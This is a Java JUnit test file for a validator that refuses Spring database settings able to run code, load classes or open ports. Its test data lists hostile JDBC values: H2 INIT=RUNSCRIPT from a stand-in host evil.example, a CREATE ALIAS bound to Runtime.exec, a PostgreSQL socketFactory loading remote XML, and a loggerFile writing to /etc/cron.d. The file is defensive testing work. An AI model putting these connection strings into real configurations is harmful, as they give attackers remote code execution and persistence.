package org.watchbrief.store;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import static org.assertj.core.api.Assertions.assertThat;

/** The database settings that would make the driver run code, load classes or open a port. */
class DatabaseSettingsTests {

    @ParameterizedTest(name = "{0} = {1}")
    @CsvSource(delimiter = '|', value = {
            "spring.datasource.url|jdbc:h2:file:./data/watchbrief;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'|INIT=",
            "SPRING_DATASOURCE_URL|jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'String e(String c)'|INIT=",
            "spring.datasource.url|jdbc:h2:file:./db;AUTO_SERVER=TRUE|AUTO_SERVER",
            "spring.datasource.hikari.connection-init-sql|RUNSCRIPT FROM '/tmp/x.sql'|RUNSCRIPT",
            "spring.flyway.init-sqls|create   alias SHELL for 'java.lang.Runtime.exec'|CREATE ALIAS",
            "spring.datasource.hikari.data-source-properties.INIT|SET TRACE_LEVEL_FILE 0|INIT=",
            "spring.datasource.url|jdbc:h2:file:./db;INIT=CREATE TRIGGER T BEFORE SELECT ON DUAL AS '//javascript'|INIT=",
            "spring.datasource.url|jdbc:postgresql://db/watchbrief?socketFactory=org.springframework.context.support"
                    + ".ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml|a class name",
            "spring.datasource.url|jdbc:postgresql://db/watchbrief?loggerFile=/etc/cron.d/x|loggerFile=" })
    void refusesASettingThatRunsCodeNamingThePropertyButNotItsValue(String property, String value, String what) {
        // when
        String refusal = DatabaseSettings.refusal(property, value).orElseThrow();
        // then
        assertThat(DatabaseSettings.reachesTheDatabase(property)).isTrue();
        assertThat(refusal).startsWith(property + " holds " + what).contains("refused before connecting")
            .doesNotContain("evil.example").doesNotContain("\n");
    }

    @ParameterizedTest(name = "{0} = {1}")
    @CsvSource(delimiter = '|', value = { "spring.datasource.url|jdbc:h2:file:./data/watchbrief;DB_CLOSE_ON_EXIT=FALSE",
            "spring.datasource.url|jdbc:h2:file:./data/initial-load;MODE=PostgreSQL",
            "spring.datasource.url|jdbc:postgresql://db.example.org:5432/watchbrief?sslmode=verify-full",
            "spring.flyway.locations|classpath:db/migration/common,classpath:db/migration/{vendor}",
            "spring.datasource.username|initial_admin" })
    void acceptsTheSettingsWatchbriefNeeds(String property, String value) {
        assertThat(DatabaseSettings.refusal(property, value)).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource({ "spring.datasource.password, false", "SPRING_DATASOURCE_PASSWORD, false", "spring.mail.host, false",
            "spring.datasource.url, true", "SPRING_FLYWAY_URL, true", "spring.sql.init.data-locations, true" })
    void looksAtTheSettingsThatReachTheDatabaseOnly(String property, boolean looked) {
        assertThat(DatabaseSettings.reachesTheDatabase(property)).isEqualTo(looked);
    }
}
